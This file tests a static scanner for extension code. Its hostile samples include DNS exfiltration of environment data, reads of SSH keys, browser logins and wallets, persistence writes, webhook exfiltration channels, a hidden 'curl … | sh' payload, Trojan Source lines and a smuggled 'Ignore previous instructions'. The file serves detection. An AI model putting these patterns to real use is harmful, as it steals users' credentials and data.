/** Rule messages, ranges and boundaries for every SEC and CMP rule of scanner.md §5.2–5.3. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { scanFileText } from '../../../shared/scanner/fileScan';
import { RULES } from '../../../shared/scanner/rules';
import { scan } from './helpers';

/** `[ruleId, source text of the range, message]` of the hits of one rule. */
const hits = (text: string, rule: string, path?: string) => scan(text, path).hits.filter((h) => h.ruleId === rule).map((h) => [text.slice(h.start, h.end), h.message]);
const none = (text: string, rule: string, path?: string) => assert.deepEqual(hits(text, rule, path), [], `${rule} on ${text}`);

describe('SEC rules: messages and ranges', () => {
  it('SEC-EVAL-001 with {via} steps (at most three shown)', () => {
    assert.deepEqual(hits('const a = eval; const b = a; const c = b; const d = c; d(x)', 'SEC-EVAL-001'), [
      ['d', 'Dynamic code execution via eval (via alias "d" declared on line 1 → alias "c" declared on line 1 → alias "b" declared on line 1)'],
    ]);
    assert.deepEqual(hits('setInterval(`x()`, 100)', 'SEC-EVAL-001'), [['setInterval', 'String passed to setInterval is evaluated as code']]);
    none('setTimeout(() => x(), 10); setTimeout(fn, 10)', 'SEC-EVAL-001');
  });
  it('a member that is assigned is not a reference to what it held; loader and binding writes still are', () => {
    assert.deepEqual(hits('const o = { run: eval };\no.run = eval;\no.run(x)', 'SEC-EVAL-001').map(([range]) => range), ['eval', 'o.run']);
    assert.deepEqual(hits('require.cache = {}', 'SEC-RCACHE-001').map(([range]) => range), ['require.cache']);
    assert.deepEqual(hits('process.binding = null', 'SEC-BIND-001').map(([range]) => range), ['process.binding']);
  });
  it('SEC-FUNC-001', () => {
    assert.deepEqual(hits('new Function("a", "b")', 'SEC-FUNC-001'), [['Function', 'Code generated from strings via the Function constructor']]);
    none('new Function(); Function.prototype.toString.call(f); x instanceof Function', 'SEC-FUNC-001');
  });
  it('SEC-BIND-001 and SEC-DLOPEN-001', () => {
    assert.deepEqual(hits('process._linkedBinding("x")', 'SEC-BIND-001'), [['process._linkedBinding', 'Access to internal Node bindings via process._linkedBinding']]);
    assert.deepEqual(hits('process.dlopen(m, f)', 'SEC-DLOPEN-001'), [['process.dlopen', 'Native addon loading via process.dlopen']]);
    none('const o = { binding: 1 }; o.binding; proc.binding("x")', 'SEC-BIND-001');
  });
  it('SEC-PROTO-001', () => {
    assert.deepEqual(hits('a.__proto__ = b', 'SEC-PROTO-001'), [['a.__proto__', 'Prototype chain manipulation via a.__proto__']]);
    none('const p = a.__proto__; if (a.__proto__ === b) {}', 'SEC-PROTO-001');
  });
  it('SEC-PROTO-001: setPrototypeOf on a class instance (the custom-error idiom) is not flagged; on anything else it is', () => {
    none('class E extends Error { constructor(m) { super(m); Object.setPrototypeOf(this, E.prototype); const f = () => Reflect.setPrototypeOf(this, new.target.prototype); } }', 'SEC-PROTO-001');
    const flagged = 'class S { static init() { Object.setPrototypeOf(this, Base); } }\nfunction Legacy() { Object.setPrototypeOf(this, evil); }\nObject.setPrototypeOf(Object.prototype, evil);';
    assert.equal(hits(flagged, 'SEC-PROTO-001').length, 3);
  });
  it('SEC-RCACHE-001', () => {
    assert.deepEqual(hits('require.cache[k] = m', 'SEC-RCACHE-001'), [['require.cache', 'Module loader manipulation via require.cache']]);
    none('const cache = new Map(); cache.clear(); require.resolve("x")', 'SEC-RCACHE-001');
  });
  it('SEC-RCACHE-001 on _compile of a module instance (source text run as a module)', () => {
    const text = 'const m = new module.constructor();\nm._compile(src, "");\nmodule._compile(src, f);\nconst M = require("module");\nnew M()._compile(src, f);\nM.prototype._compile.call(m, src, f);\nrequire.main._compile(src, f)';
    assert.deepEqual(hits(text, 'SEC-RCACHE-001').map(([range]) => range), ['m._compile', 'module._compile', 'new M()._compile', 'M.prototype._compile', 'require.main._compile']);
    none('class T { _compile(x) { return x } }\nnew T()._compile("a"); parser._compile(x); m._compile(src)', 'SEC-RCACHE-001');
  });
  it('SEC-RCACHE-001 on a call with an unknown key on a module instance', () => {
    const text = 'var f = new module.constructor;\nf.paths = module.paths;\nf[e(k)](src, "");\nnew (require("module"))()[name](src);';
    assert.deepEqual(hits(text, 'SEC-RCACHE-001').map(([range]) => range), ['f[e(k)]', 'new (require("module"))()[name]']);
    none('const o = {}; o[k](src); module.exports[k](x); const T = class {}; new T()[k](src)', 'SEC-RCACHE-001');
  });
  it('SEC-SPAWN-001 (pi.exec is not this rule)', () => {
    assert.deepEqual(hits('import { execFileSync as run } from "child_process"; run("git")', 'SEC-SPAWN-001'), [['run', 'Direct process execution via child_process.execFileSync']]);
    none('export default function (pi) { pi.exec("git", ["status"]) }', 'SEC-SPAWN-001');
  });
  it('SEC-CONSTRUCTOR-001', () => {
    assert.deepEqual(hits('(function () {}).constructor("x")', 'SEC-CONSTRUCTOR-001').map(([r]) => r), ['(function () {}).constructor']);
    none('this.constructor.name; obj.constructor === Object; class A { constructor() {} }', 'SEC-CONSTRUCTOR-001');
  });
  it('SEC-NATIVEMOD-001 for every native suffix and specifier source', () => {
    const text = 'import a from "./a.node"; export * from "./b.so"; import("./c.dylib"); require("./d.dll")';
    assert.deepEqual(hits(text, 'SEC-NATIVEMOD-001').map(([r]) => r), ['"./a.node"', '"./b.so"', '"./c.dylib"', '"./d.dll"']);
    none('require("./node"); require("./so.js")', 'SEC-NATIVEMOD-001');
  });
  it('SEC-SECRET-001 never echoes the value', () => {
    const text = 'const cfg = { privateKey: "k3y-m4t3r1al-abc" }; const t = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";';
    const found = hits(text, 'SEC-SECRET-001');
    assert.deepEqual(found.map(([, m]) => m), ['Possible hardcoded secret in "privateKey"', 'String has the shape of a github token']);
    for (const [, m] of found) assert.ok(!m.includes('k3y') && !m.includes('ghp_'));
  });
  it('SEC-SECRET-001 on a PEM private key only with key material after the header', () => {
    assert.deepEqual(hits('const k = "-----BEGIN RSA PRIVATE KEY-----\\nProc-Type: 4,ENCRYPTED\\nDEK-Info: AES-128-CBC,0A1B\\n\\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3\\n-----END RSA PRIVATE KEY-----"', 'SEC-SECRET-001').map(([, m]) => m), ['String has the shape of a private key token']);
    none('var KEY_START = "-----BEGIN PRIVATE KEY-----"; const isKey = (s) => s.startsWith("-----BEGIN OPENSSH PRIVATE KEY-----\\n"); const pem = `-----BEGIN PRIVATE KEY-----\\n${body}\\n-----END PRIVATE KEY-----`', 'SEC-SECRET-001');
  });
  it('SEC-SECRET-001 placeholders and env values', () => {
    none('const password = process.env.PW; const apiKey = "xxxxxxxx"; const token = "****"; const authToken = "${TOKEN}"; const secretKey = "your-secret-here"; const passwd = "TODO"; const privateKey = "example-key"', 'SEC-SECRET-001');
    none('const password = "password"; const apiKey = "apiKey"', 'SEC-SECRET-001');
    none('const x = "sk-short"; const y = "AKIA123"; const z = "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxx"', 'SEC-SECRET-001');
  });
  it('SEC-SECRET-001: values too short to be a secret (codes, durations) are not flagged; short passwords are', () => {
    none('const E = { NO_CACHED_ACCESS_TOKEN: "2", ACCESS_TOKEN_TTL: "3600" }; const password = "abc"', 'SEC-SECRET-001');
    assert.deepEqual(hits('const password = "hunter2"; const pin = { password: "1234567" }', 'SEC-SECRET-001').map(([r]) => r), ['"hunter2"', '"1234567"']);
  });
  it('SEC-SECRET-001 on stealers\' exfiltration channels and more token shapes', () => {
    const values = [
      'https://discord.com/api/webhooks/1187654321098765432/AbCdEfGhIjKlMnOpQrStUvWq3z0123456789-_AbCdEfGhIjKlMnOpQrStUvWq3z01234',
      'https://hooks.slack.com/services/T01234567/B01234567/abcdefghijklmnopqrstuvwq',
      '6123456789:AAHk3jD9sKq-LmNoPqRsTuVwqyZ01234567',
      'https://api.telegram.org/bot6123456789:AAHk3jD9sKq-LmNoPqRsTuVwqyZ01234567/sendMessage',
      'npm_abcdefghijklmnopqrstuvwqyz0123456789',
      'sk_live_4eC39HqLyjWDarjtT1zdp7dc',
      'AIzaSyA-1234567890abcdefghijklmnopqrstu',
    ];
    const text = values.map((v, i) => `const v${i} = ${JSON.stringify(v)};`).join('\n');
    assert.deepEqual(hits(text, 'SEC-SECRET-001').map(([, m]) => m), [
      'String has the shape of a discord webhook token', 'String has the shape of a slack webhook token', 'String has the shape of a telegram bot token',
      'String has the shape of a telegram bot token', 'String has the shape of a npm token', 'String has the shape of a stripe token', 'String has the shape of a google api key token',
    ]);
    none('const a = "https://discord.com/api/webhooks/"; const b = "https://discord.com/invite/abc"; const c = "12:30:45"; const d = "sk_test_4eC39HqLyjWDarjtT1zdp7dc"; const e = "npm_config_registry"', 'SEC-SECRET-001');
  });
  it('SEC-DIMPORT-001', () => {
    assert.deepEqual(hits('import(x)', 'SEC-DIMPORT-001'), [['x', 'Module loaded from a runtime-computed specifier']]);
    none('import("./a.js"); require("./b"); const m = "./c"; require(m)', 'SEC-DIMPORT-001');
  });
  it('SEC-DEFPROP-001', () => {
    assert.deepEqual(hits('Object.defineProperty(String.prototype, "x", {})', 'SEC-DEFPROP-001'), [['Object.defineProperty', 'Property definition on String.prototype']]);
    none('Object.defineProperty(exports, "__esModule", { value: true }); Object.defineProperty(obj, "x", {})', 'SEC-DEFPROP-001');
  });
  it('SEC-DEFPROP-001 on assignments to members of builtin prototypes (not user prototypes)', () => {
    const text = 'Array.prototype.push = function (x) { send(x); };\nconst P = String.prototype; P.trim = null;';
    assert.deepEqual(hits(text, 'SEC-DEFPROP-001'), [['Array.prototype.push', 'Property definition on Array.prototype'], ['P.trim', 'Property definition on P']]);
    none('function Foo() {}\nFoo.prototype.bar = 1;\nclass A {}\nA.prototype.x = 2;\nconst o = {}; o.prototype = 3; const p = Array.prototype.slice;', 'SEC-DEFPROP-001');
  });
  it('SEC-EXFIL-001', () => {
    assert.deepEqual(hits('fetch("https://a.example/" + id)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime']]);
    assert.deepEqual(hits('import os from "os"; fetch(`https://a.example/${os.userInfo().username}`)', 'SEC-EXFIL-001'), [['fetch', 'Request URL built at runtime — includes environment data']]);
    none('fetch(url); fetch("https://a.example/" + "v1"); fetch(`https://a.example/${"v1"}`)', 'SEC-EXFIL-001');
  });
  it('SEC-EXFIL-001 on DNS queries for assembled host names', () => {
    const text = 'const dns = require("dns"), os = require("os");\ndns.lookup(Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60) + ".x.example", cb);\nrequire("dns/promises").resolveTxt(`${os.hostname()}.t.example`);\nconst id = os.userInfo().username;\ndns.promises.resolve4(id + ".example");';
    assert.deepEqual(hits(text, 'SEC-EXFIL-001'), [
      ['dns.lookup', 'DNS query for a host name built at runtime — includes environment data'],
      ['require("dns/promises").resolveTxt', 'DNS query for a host name built at runtime — includes environment data'],
      ['dns.promises.resolve4', 'DNS query for a host name built at runtime — includes environment data'],
    ]);
    // Without host data: a driver's SRV lookup from a connection string, plain names, other dns calls.
    none('const dns = require("dns"); dns.resolveSrv(`_${service}._tcp.${host}`, cb); dns.resolveTxt(host + ".", cb); dns.lookup(host, cb); dns.resolve("registry.npmjs.org"); dns.reverse(ip + "", cb); dns.setServers([a + b])', 'SEC-EXFIL-001');
  });
  it('SEC-FSSENS-001', () => {
    const head = 'const fs = require("fs");';
    assert.deepEqual(hits(`${head} fs.renameSync(tmp, "/var/lib/x")`, 'SEC-FSSENS-001'), [['fs.renameSync', 'Write to sensitive path "/var/lib/x"']]);
    none(`${head} fs.writeFileSync(".env.sample", s); fs.readFileSync("/etc/hosts"); fs.writeFileSync("notes/.envrc", s)`, 'SEC-FSSENS-001');
  });
  it('SEC-FSSENS-001 on persistence locations, Windows paths and %APPDATA%', () => {
    const head = 'const fs = require("fs"), path = require("path"), os = require("os");';
    const text = `${head}\nfs.writeFileSync(process.env.APPDATA + "\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\u.bat", p);\nfs.writeFileSync(path.join(os.homedir(), "Library", "LaunchAgents", "x.plist"), p);\nfs.appendFileSync(\`\${os.homedir()}/.npmrc\`, t);`;
    assert.deepEqual(hits(text, 'SEC-FSSENS-001').map(([, m]) => m), [
      'Write to sensitive path "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat"',
      'Write to sensitive path "~/Library/LaunchAgents/x.plist"',
      'Write to sensitive path "~/.npmrc"',
    ]);
    none(`${head} fs.writeFileSync(path.join(os.homedir(), ".config", "myext", "settings.json"), s); fs.writeFileSync(process.env.APPDATA + "/myext/state.json", s)`, 'SEC-FSSENS-001');
  });
  it('SEC-FSSENS-001 on the host\'s policy files and other extensions\' code, also with unknown path parts', () => {
    const head = 'const fs = require("fs"), path = require("path"), os = require("os");';
    const text = `${head}\nfs.writeFileSync(path.join(root, ".pi", "settings.json"), s);\nfs.writeFileSync(path.join(os.homedir(), ".pi/agent/config.toml"), s);\nfs.appendFileSync(path.join(home, ".vscode", "extensions", ext, "out", "extension.js"), code);\nfs.writeFileSync(path.join(home, "Library", "LaunchAgents", name), plist);`;
    assert.deepEqual(hits(text, 'SEC-FSSENS-001').map(([, m]) => m), [
      'Write to sensitive path "*/.pi/settings.json"',
      'Write to sensitive path "~/.pi/agent/config.toml"',
      'Write to sensitive path "*/.vscode/extensions/*/out/extension.js"',
      'Write to sensitive path "*/Library/LaunchAgents/*"',
    ]);
    // The spec's own markers still need the whole path: an unknown folder with "etc" or ".env" in it is not enough.
    none(`${head} fs.writeFileSync(path.join(root, ".pi", "notes.md"), s); fs.writeFileSync(path.join(dir, ".env"), s); fs.writeFileSync(path.join(d, "etc", "x"), s); fs.writeFileSync(path.join(root, ".vscode", "settings.json"), s)`, 'SEC-FSSENS-001');
  });
  it('SEC-CREDREAD-001 on reads of credential stores, with unknown path parts as *', () => {
    const head = 'const fs = require("fs"), path = require("path"), os = require("os");';
    const text = [
      head,
      'fs.readFileSync(os.homedir() + "/.ssh/id_ed25519");',
      'fs.readdirSync(path.join(process.env.HOME, ".ssh"));',
      'for (const p of profiles) fs.copyFileSync(path.join(p, "Login Data"), tmp);',
      'fs.promises.readFile(`${process.env.USERPROFILE}\\\\.aws\\\\credentials`);',
      'fs.readFileSync(path.join(os.homedir(), ".pi", "agent", "auth.json"));',
      'require("fs/promises").open(path.resolve(dir, "Local Storage", "leveldb", name));',
    ].join('\n');
    assert.deepEqual(hits(text, 'SEC-CREDREAD-001').map(([, m]) => m), [
      'Read of credential store "~/.ssh/id_ed25519"',
      'Read of credential store "~/.ssh"',
      'Read of credential store "*/Login Data"',
      'Read of credential store "~\\.aws\\credentials"',
      'Read of credential store "~/.pi/agent/auth.json"',
      'Read of credential store "*/Local Storage/leveldb/*"',
    ]);
    const loop = `${head}\nfor (const f of [".bashrc", ".npmrc", ".git-credentials"]) fs.readFileSync(path.join(os.homedir(), f));\nfor (const f of ["a.txt", "b.txt"]) fs.readFileSync(path.join(os.homedir(), f));\nfor (const f of [x, ".netrc"]) fs.readFileSync(f);`;
    assert.deepEqual(hits(loop, 'SEC-CREDREAD-001').map(([, m]) => m), ['Read of credential store "~/.npmrc"']);
    const tables = `${head}\nconst wallets = { exodus: "Exodus/exodus.wallet", notes: "Notes/x.txt" };\nfor (const p of Object.values(wallets)) fs.readdirSync(path.join(process.env.APPDATA, p));\nfor (const [name, p] of Object.entries(wallets)) fs.readFileSync(path.join(process.env.APPDATA, p));\nfor (const [name] of Object.entries({ ".netrc": 1 })) fs.readFileSync(path.join(os.homedir(), name));\nfor (const [name, p] of Object.entries({ a: "x.txt" })) fs.readFileSync(p);`;
    assert.deepEqual(hits(tables, 'SEC-CREDREAD-001').map(([, m]) => m), [
      'Read of credential store "%APPDATA%/Exodus/exodus.wallet"',
      'Read of credential store "%APPDATA%/Exodus/exodus.wallet"',
      'Read of credential store "~/.netrc"',
    ]);
    const editorState = `${head} fs.readFileSync(path.join(process.env.APPDATA, "Cursor", "User", "globalStorage", "state.vscdb")); fs.readFileSync(path.join(context.globalStorageUri.fsPath, "state.json"));`;
    assert.deepEqual(hits(editorState, 'SEC-CREDREAD-001').map(([, m]) => m), ['Read of credential store "%APPDATA%/Cursor/User/globalStorage/state.vscdb"']);
    // Tools' own settings, unknown paths, writes (SEC-FSSENS-001's concern), a folder named only like `.ssh`.
    none(`${head} fs.readFileSync(path.join(os.homedir(), ".ssh", "id_ed25519.pub")); fs.readFileSync(path.join(os.homedir(), ".ssh", "config")); fs.readFileSync(path.join(root, ".npmrc")); fs.readFileSync(path.join(dir, name)); fs.readFileSync(p); fs.writeFileSync(path.join(d, "Login Data"), x); fs.readdirSync(path.join(os.homedir(), ".ssh-backup"))`, 'SEC-CREDREAD-001');
  });
  it('SEC-GLOBAL-001', () => {
    assert.deepEqual(hits('globalThis.x += 1', 'SEC-GLOBAL-001'), [['globalThis.x', 'Mutation of global property "x"']]);
    none('window.location.href = u; const g = globalThis.x; globalThis.x == 1', 'SEC-GLOBAL-001');
  });
  it('SEC-SYMLINK-001 and SEC-CHMOD-001', () => {
    assert.deepEqual(hits('require("fs").linkSync(a, b)', 'SEC-SYMLINK-001'), [['require("fs").linkSync', 'Link creation via fs.linkSync']]);
    assert.deepEqual(hits('require("fs").fchmodSync(fd, 0o600)', 'SEC-CHMOD-001'), [['require("fs").fchmodSync', 'Permission change via fs.fchmodSync']]);
    none('const fs = require("fs"); fs.readlinkSync(p); fs.statSync(p).mode', 'SEC-SYMLINK-001');
  });
  it('SEC-SOCKET-001', () => {
    assert.deepEqual(hits('require("net").createServer()', 'SEC-SOCKET-001').map(([, m]) => m), ['Network listener via require("net").createServer']);
    none('app.listen(3000); require("http").request(u)', 'SEC-SOCKET-001');
  });
  it('SEC-WASM-001', () => {
    assert.deepEqual(hits('WebAssembly.compile(b)', 'SEC-WASM-001'), [['WebAssembly.compile', 'WebAssembly usage (WebAssembly.compile)']]);
    assert.deepEqual(hits('const W = WebAssembly;', 'SEC-WASM-001'), [['WebAssembly', 'WebAssembly usage']]);
  });
  it('SEC-ENV-001', () => {
    assert.deepEqual(hits('process.env.HOME', 'SEC-ENV-001'), [['process.env.HOME', 'Environment access: process.env.HOME']]);
    none('process.platform; process.argv; const env = {}; env.HOME', 'SEC-ENV-001');
  });
  it('SEC-TIMER-001', () => {
    assert.deepEqual(hits('setInterval(f, 5)', 'SEC-TIMER-001'), [['setInterval', 'setInterval with a 5 ms interval']]);
    none('setInterval(f, 10); setInterval(f, ms); setTimeout(f)', 'SEC-TIMER-001');
  });
  it('SEC-PROXY-001 (read-only Reflect methods are not flagged)', () => {
    assert.deepEqual(hits('new Proxy(t, h)', 'SEC-PROXY-001'), [['Proxy', 'Interception via new Proxy']]);
    none('Reflect.get(o, k); Reflect.has(o, k); Reflect.ownKeys(o); Reflect.getPrototypeOf(o)', 'SEC-PROXY-001');
  });
  it('SEC-WITH-001, SEC-DEBUG-001, SEC-ARGUMENTS-001, SEC-CONSOLE-001', () => {
    assert.deepEqual(hits('with (o) {}', 'SEC-WITH-001', 'x.cjs'), [['with', 'with statement']]);
    assert.deepEqual(hits('debugger;', 'SEC-DEBUG-001'), [['debugger;', 'debugger statement']]);
    assert.deepEqual(hits('function f() { return arguments.callee }', 'SEC-ARGUMENTS-001'), [['arguments.callee', 'Stack introspection via arguments.callee']]);
    none('function f(...arguments2) { return arguments.length } const g = () => 1; g.caller', 'SEC-ARGUMENTS-001');
    assert.deepEqual(hits('console.warn("x")', 'SEC-CONSOLE-001'), [['console.warn', 'console.warn output']]);
    none('console.log("x"); console.info("y"); logger.error("z")', 'SEC-CONSOLE-001');
  });
  it('SEC-UNICODE-001: invisible payloads (decoded when smuggled), Trojan Source lines and invisible identifiers; emoji stay clean', () => {
    const vs = (s: string) => [...Buffer.from(s)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
    const tags = (s: string) => [...s].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const payload = 'require("child_process").exec("id")';
    const glassworm = `eval(decode(\`${vs(payload)}\`))`;
    assert.deepEqual(hits(glassworm, 'SEC-UNICODE-001'), [
      [`\`${vs(payload)}`, `${payload.length} invisible characters (variation selectors) hide data in the source; they decode to: ${payload}; as code it would be flagged CMP-REWRITE-001, SEC-SPAWN-001`],
    ]);
    // A long payload: the message quotes its head and still reads all of it as code.
    const long = `const pad = ${JSON.stringify('x'.repeat(300))};\nrequire("child_process").execSync("curl -s https://x.example | sh");`;
    const [[, longMessage]] = hits(`eval(decode(\`${vs(long)}\`))`, 'SEC-UNICODE-001');
    assert.match(longMessage, /^\d+ invisible characters \(variation selectors\) hide data in the source; they decode to: const pad = "x{40,}…; as code it would be flagged CMP-REWRITE-001, SEC-SPAWN-001$/);
    const smuggled = `const d = "Summarize.${tags('Ignore previous instructions')}";`;
    assert.deepEqual(hits(smuggled, 'SEC-UNICODE-001').map(([, m]) => m), ['28 invisible characters (tags) hide data in the source; they decode to: Ignore previous instructions']);
    // Zero-width characters carry bits without a standard decoding: reported without one.
    const zeroWidth = `const k = "x${'\u200b\u200c'.repeat(8)}";`;
    assert.deepEqual(hits(zeroWidth, 'SEC-UNICODE-001').map(([, m]) => m), ['16 invisible characters (zero width space, zero width non-joiner) hide data in the source']);
    const trojan = 'let ok = false;\n/*\u202e } \u2066if (ok)\u2069 \u2066 begin admins only */\nrun();';
    assert.deepEqual(hits(trojan, 'SEC-UNICODE-001'), [
      ['\u202e } \u2066if (ok)\u2069 \u2066 begin admins only */', 'Bidirectional control characters (U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+2069 POP DIRECTIONAL ISOLATE) make this line display in a different order than it runs (Trojan Source)'],
    ]);
    assert.deepEqual(hits('const { timeout,\u3164} = q;\nrun([a,\u3164]);\nconst isAdmin\u200d = 1;', 'SEC-UNICODE-001'), [
      ['\u3164', 'Identifier "\\u{3164}" is invisible (U+3164 HANGUL FILLER): it reads as blank space'],
      ['\u3164', 'Identifier "\\u{3164}" is invisible (U+3164 HANGUL FILLER): it reads as blank space'],
      ['isAdmin\u200d', 'Identifier "isAdmin\\u{200D}" contains invisible characters (U+200D ZERO WIDTH JOINER)'],
    ]);
    // Cyrillic look-alikes among Latin letters impersonate a name; Cyrillic words and Greek letters do not.
    assert.deepEqual(hits('const r\u0435quire = (m) => load(m);\nr\u0435quire("x");', 'SEC-UNICODE-001').map(([, m]) => m), [
      'Identifier "r\u0435quire" mixes Latin letters with Cyrillic look-alikes (U+0435 "\u0435"): it can pass for another name',
      'Identifier "r\u0435quire" mixes Latin letters with Cyrillic look-alikes (U+0435 "\u0435"): it can pass for another name',
    ]);
    none('const \u043f\u0440\u0438\u0432\u0435\u0442 = 1; const get\u0421\u043f\u0438\u0441\u043e\u043a = () => 2; const delta\u0394 = 3; const \u03c3 = 4;', 'SEC-UNICODE-001');
    // Reports quote source text with such characters escaped, for every rule.
    const evalAlias = scanFileText('const e\u200d = eval; e\u200d(x)', { relativePath: 'a.js', extensionId: 'a', today: '2026-01-01' });
    assert.deepEqual(evalAlias.findings.filter((f) => f.ruleId === 'SEC-EVAL-001').map((f) => f.message), ['Dynamic code execution via eval (via alias "e\\u{200D}" declared on line 1) (also: SEC-UNICODE-001)']);
    // Emoji sequences, short formatting runs, escapes, private-use icons and code-page holes, long (minified or data) lines.
    none('const r = ["\u2764\ufe0f", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}"]; const z = s.replace(/[\u200b\u200c\u200d\ufeff]/g, ""); const o = "\\u202e"', 'SEC-UNICODE-001');
    none(`const icons = "${'\ue60a'.repeat(20)}"; const bom = 1;`, 'SEC-UNICODE-001');
    none(`\ufeffconst data = "${'x'.repeat(600)}\u202a\u202c";`, 'SEC-UNICODE-001');
    assert.equal(hits(`const icons = "${'\ue60a'.repeat(64)}";`, 'SEC-UNICODE-001').length, 1);
  });
  it('SEC-OBFUSC-001 only for sensitive positions', () => {
    assert.deepEqual(hits('require("f" + "s")', 'SEC-OBFUSC-001'), [['"f" + "s"', '"fs" is assembled at runtime (concatenation)']]);
    none('require("./" + "helper"); obj["na" + "me"]; const s = "ev" + "al"', 'SEC-OBFUSC-001');
  });
});

describe('CMP rules: messages', () => {
  it('CMP-FORBIDDEN-001 / CMP-UNSUPPORTED-001 / CMP-REWRITE-001', () => {
    assert.deepEqual(hits('import "node:repl"', 'CMP-FORBIDDEN-001'), [['"node:repl"', 'Import of forbidden builtin "node:repl" — Interactive eval is not allowed']]);
    assert.deepEqual(hits('import "http2"', 'CMP-UNSUPPORTED-001').map(([, m]) => m), ['Import of unsupported builtin "http2" (runtime support: stub only, loads but provides no real functionality; use `fetch()`)']);
    assert.deepEqual(hits('import "util"', 'CMP-UNSUPPORTED-001').map(([, m]) => m), ['Import of unsupported builtin "util" (runtime support: full)']);
    assert.deepEqual(hits('import "punycode"', 'CMP-UNSUPPORTED-001').map(([, m]) => m), ['Import of unsupported builtin "punycode"']);
    assert.deepEqual(hits('import "node:url"', 'CMP-REWRITE-001').map(([, m]) => m), ['"node:url" is rewritten to pi:node/url']);
    assert.deepEqual(hits('import fs from "fs"; fs.writeFileSync(a, b)', 'CMP-REWRITE-001').map(([, m]) => m), ['"fs" is rewritten to pi:node/fs; needs capabilities: write']);
  });
  it('every hit carries the catalogue tier', () => {
    const s = scan('eval(x); debugger; process.env.A; import("vm"); import "util"; import "os"');
    const tiers = new Map(RULES.map((r) => [r.id, r.tier]));
    for (const h of s.hits) assert.equal(h.tier, tiers.get(h.ruleId), h.ruleId);
  });
});
